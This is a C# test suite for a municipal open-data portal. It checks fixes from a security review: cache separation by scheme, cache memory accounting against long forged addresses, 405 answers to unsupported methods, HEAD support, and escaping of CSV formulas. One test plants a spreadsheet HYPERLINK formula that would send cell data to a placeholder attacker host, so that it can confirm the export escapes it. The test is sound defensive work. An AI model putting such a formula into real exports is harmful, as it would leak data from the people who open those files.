using System.Net;
using Kedja.Data;
using Kedja.Web.Demo;
using Kedja.Web.Infrastructure;
using Kedja.Web.Portal;
using Microsoft.EntityFrameworkCore;

namespace Kedja.Web.Tests.Portal;

/// <summary>
/// What h120's attack on the public portal found (issue 13): answers that one client could make the cache give to
/// others, a cache that held more than it counted, methods the portal does not serve, HEAD on files, and a CSV cell a
/// spreadsheet would run as a formula.
/// </summary>
public sealed class PortalAttackTests
{
    private const string Portal = $"/p/{DemoTenant.Slug}";

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Addresses_written_for_a_request_of_one_scheme_are_never_served_from_the_cache_to_a_request_of_another(string provider)
    {
        // Real Kestrel on 127.0.0.1: a proxy on the same machine is trusted with X-Forwarded-Proto, as a deployment's is.
        await using var app = await KedjaApp.StartAsync(provider, seedDemo: true, kestrel: true);
        using var client = app.CreateClient();
        var plain = $"http://{client.BaseAddress!.Authority}/";
        var secure = $"https://{client.BaseAddress!.Authority}/";

        foreach (var path in new[] { $"{Portal}/dcat.ttl", $"{Portal}/oppna-data/alla.json" })
        {
            using (var forwarded = new HttpRequestMessage(HttpMethod.Get, path))
            {
                forwarded.Headers.Add("X-Forwarded-Proto", "https");
                var body = await (await client.SendAsync(forwarded)).Content.ReadAsStringAsync();
                body.ShouldContain(secure, Case.Sensitive, path);
            }

            var direct = await client.GetStringAsync(path);
            direct.ShouldContain(plain, Case.Sensitive, $"{path}: written for this request's scheme");
            direct.ShouldNotContain(secure, Case.Sensitive, $"{path}: not the answer made for the other scheme");
        }
    }

    [Fact]
    public void The_page_cache_counts_the_address_it_keeps_a_page_under_so_long_addresses_stay_within_its_memory()
    {
        using var cache = new PortalCache(Microsoft.Extensions.Options.Options.Create(new PortalOptions { CacheMegabytes = 1 }));
        var made = DateTime.UtcNow;
        var keys = Enumerable.Range(0, 400).Select(i => $"{i}|{new string('h', 30_000)}|/p/x?q={new string('q', 7000)}").ToList();
        foreach (var key in keys)
        {
            // A small page under a long host and query: what an address can send with a forged Host header.
            cache.Rendered(key, 1, new PortalPage(1, made, "1||", TimeProvider.System.GetTimestamp(), [("Content-Type", ["text/html"])], new byte[1000], null));
        }

        // Each key holds 37 000 characters, 74 kB: one megabyte keeps at most 14 of them, not the 400 a count of the bodies would allow.
        keys.Count(k => cache.Find(k, 1) is not null).ShouldBeLessThanOrEqualTo(1024 * 1024 / (37_000 * 2));
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task The_portal_answers_any_method_but_GET_and_HEAD_with_a_Swedish_405(string provider)
    {
        await using var app = await KedjaApp.StartAsync(provider, seedDemo: true);
        var anonymous = app.CreateClient();
        foreach (var path in new[] { Portal, $"{Portal}/sok?q=skola", $"{Portal}/oppna-data/alla.json", $"{Portal}/finns-inte", "/p/finns-inte" })
        {
            foreach (var method in new[] { "TRACE", "OPTIONS", "POST", "PUT", "DELETE", "PATCH" })
            {
                using var request = new HttpRequestMessage(new HttpMethod(method), path);
                var response = await anonymous.SendAsync(request);
                response.StatusCode.ShouldBe(HttpStatusCode.MethodNotAllowed, $"{method} {path}");
                response.Content.Headers.Allow.ShouldBe(["GET", "HEAD"], ignoreOrder: true, $"{method} {path}");
                response.Headers.Contains("Set-Cookie").ShouldBeFalse($"{method} {path}");
                var page = await response.Content.ReadAsStringAsync();
                page.ShouldContain("lang=\"sv\"", Case.Sensitive, $"{method} {path}");
                page.ShouldContain(PortalResponses.ReadOnly, Case.Sensitive, $"{method} {path}");
            }
        }
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Open_data_files_and_the_catalogue_answer_HEAD_as_they_answer_GET(string provider)
    {
        await using var app = await KedjaApp.StartAsync(provider, seedDemo: true);
        var anonymous = app.CreateClient();
        // A catalogue's harvester checks that each distribution's address answers, often with HEAD.
        foreach (var path in new[] { $"{Portal}/oppna-data/alla.json", $"{Portal}/oppna-data/2026-T1.csv", $"{Portal}/dcat.ttl", $"{Portal}/dcat.jsonld", $"{Portal}/dcat.rdf", "/schema/kedja-open-data.v1.schema.json" })
        {
            // HEAD first: a page already in the cache would be answered from there whatever the endpoint allows.
            var head = await anonymous.SendAsync(new HttpRequestMessage(HttpMethod.Head, path));
            head.StatusCode.ShouldBe(HttpStatusCode.OK, path);
            var get = await anonymous.GetAsync(path);
            get.StatusCode.ShouldBe(HttpStatusCode.OK, path);
            head.Content.Headers.ContentType!.ToString().ShouldBe(get.Content.Headers.ContentType!.ToString(), path);
            (await head.Content.ReadAsByteArrayAsync()).ShouldBeEmpty(path);
        }

        (await anonymous.SendAsync(new HttpRequestMessage(HttpMethod.Head, $"{Portal}/oppna-data/2026-T2.json"))).StatusCode
            .ShouldBe(HttpStatusCode.NotFound, "an unpublished period has no file, asked either way");
    }

    [Fact]
    public async Task The_page_for_too_many_requests_says_how_long_to_wait_in_proper_Swedish()
    {
        PortalResponses.TooMany(1).ShouldContain("Vänta 1 sekund och");
        PortalResponses.TooMany(3).ShouldContain("Vänta 3 sekunder och");

        await using var app = await KedjaApp.StartAsync(nameof(DatabaseProvider.Sqlite), seedDemo: true,
            settings: new Dictionary<string, string?> { ["Kedja:Portal:BurstPerAddress"] = "1", ["Kedja:Portal:PerSecondPerAddress"] = "1" });
        var one = app.ClientFrom("203.0.113.70");
        HttpResponseMessage answer;
        var tries = 0;
        do
        {
            answer = await one.GetAsync(Portal);
        }
        while (answer.StatusCode != HttpStatusCode.TooManyRequests && ++tries < 20);

        answer.StatusCode.ShouldBe(HttpStatusCode.TooManyRequests);
        var seconds = (int)answer.Headers.RetryAfter!.Delta!.Value.TotalSeconds;
        (await answer.Content.ReadAsStringAsync()).ShouldContain(PortalResponses.TooMany(seconds));
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_text_cell_of_the_open_data_csv_never_starts_a_formula_while_numbers_and_the_json_keep_their_values(string provider)
    {
        await using var app = await KedjaApp.StartAsync(provider, seedDemo: true);
        var anonymous = app.CreateClient();
        const string Formula = "=HYPERLINK(\"https://angripare.example/?\"&A1;\"Klicka här\")";
        const string Unit = "+kr";
        const string Owner = "@Nämnden";
        Guid id;
        await using (var scope = app.Services.CreateAsyncScope())
        {
            (await scope.ServiceProvider.GetRequiredService<TenantAccess>().EnterAsSystemAsync(DemoTenant.Slug)).Error.ShouldBeNull();
            var db = scope.ServiceProvider.GetRequiredService<KedjaDbContext>();
            id = await db.Outcomes.Select(o => o.IndicatorId).FirstAsync();
            var owner = await db.Indicators.Where(i => i.Id == id).Select(i => i.OwnerUnitId).SingleAsync();
            await db.Indicators.Where(i => i.Id == id).ExecuteUpdateAsync(i => i.SetProperty(x => x.Name, Formula).SetProperty(x => x.UnitOfMeasure, Unit));
            await db.Units.Where(u => u.Id == owner).ExecuteUpdateAsync(u => u.SetProperty(x => x.Name, Owner));
            await db.Outcomes.Where(o => o.IndicatorId == id).ExecuteUpdateAsync(o => o.SetProperty(x => x.Value, -12.5m));
        }

        var rows = Rfc4180.Parse(await anonymous.GetStringAsync($"{Portal}/oppna-data/alla.csv"));
        var header = rows[0].ToList();
        var named = rows.Skip(1).Where(r => r[header.IndexOf("indicator_id")] == id.ToString()).ToList();
        named.ShouldNotBeEmpty();
        foreach (var row in named)
        {
            row[header.IndexOf("indicator_name")].ShouldBe("'" + Formula);
            row[header.IndexOf("unit_of_measure")].ShouldBe("'" + Unit);
            row[header.IndexOf("owner_unit_name")].ShouldBe("'" + Owner);
            row[header.IndexOf("value")].ShouldBe("-12.5", "a number is a number, not a formula");
        }

        foreach (var row in rows.Skip(1))
        {
            row.Where((cell, column) => column != header.IndexOf("value") && column != header.IndexOf("value_women") && column != header.IndexOf("value_men")
                    && !header[column].StartsWith("target", StringComparison.Ordinal))
                .ShouldAllBe(cell => cell.Length == 0 || !"=+-@\t\r".Contains(cell[0]));
        }

        var json = System.Text.Json.Nodes.JsonNode.Parse(await anonymous.GetStringAsync($"{Portal}/oppna-data/alla.json"))!;
        json["indicators"]!.AsArray().Single(i => i!["id"]!.GetValue<Guid>() == id)!["name"]!.GetValue<string>()
            .ShouldBe(Formula, "the JSON file is for programs: the text as written");
    }
}
